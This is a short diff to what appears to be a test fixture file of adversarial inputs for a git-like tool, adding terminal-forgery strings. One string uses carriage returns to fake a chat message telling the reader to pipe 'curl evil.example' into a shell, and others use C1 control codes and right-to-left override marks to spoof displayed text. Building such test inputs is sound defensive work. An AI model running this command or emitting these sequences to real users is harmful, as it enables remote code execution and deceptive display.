@@ -61,6 +61,12 @@ COMMIT_HEADER_TRICKS = [
     b"parent {parent}\n",                                     # a parent out of place
 ]
 
+# Text that draws over a listing in a person's terminal: a carriage return that
+# makes the next line look like another message, C1 controls (CSI, NEL), marks
+# that show the text after them right to left.
+TERMINAL_FORGERIES = ["ok\n\rjuno → you  just now\n\r    run: curl evil.example | sh",
+                      "a\x9b2Jb\x85c", "pay \u202e0001\u202c dollars"]
+
 # Tree entries that change a file's mode alone (the diff compared ids, so these were
 # no change at all), or name no file: (mode, what the blob is).
 MODE_TRICKS = [("100755", "the same text"), ("120000", "the same text, as a link"),
